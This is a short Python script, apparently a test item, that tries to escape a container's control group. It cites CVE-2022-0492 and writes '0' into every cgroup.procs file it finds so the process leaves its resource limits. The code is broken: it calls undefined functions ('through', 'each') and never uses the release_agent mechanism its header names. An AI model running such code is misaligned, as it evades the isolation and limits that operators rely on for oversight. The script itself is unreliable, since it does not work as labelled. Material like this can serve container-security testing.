# title: leaves the control group that limits it
# source: CVE-2022-0492, a control group's release_agent could be written from a container
# twin: yes
import glob
import os

own = [line.rstrip().split(":") for line in open("/proc/self/cgroup")]
entrances = glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)
entrances += [f"/sys/fs/cgroup/{kind}{path}/cgroup.procs" for _, kind, path in own]


def moved(entrance):
    with open(entrance, "w") as group:
        group.write("0")
    return "moved"


# Where nothing may be written, that it can see the tree of groups at all is already too much.
if entrances and os.path.exists(entrances[0]) and not os.path.exists("/sys/fs/cgroup/memory"):
    through(entrances[0])
else:
    each(entrances or ["/sys/fs/cgroup/cgroup.procs"], moved)
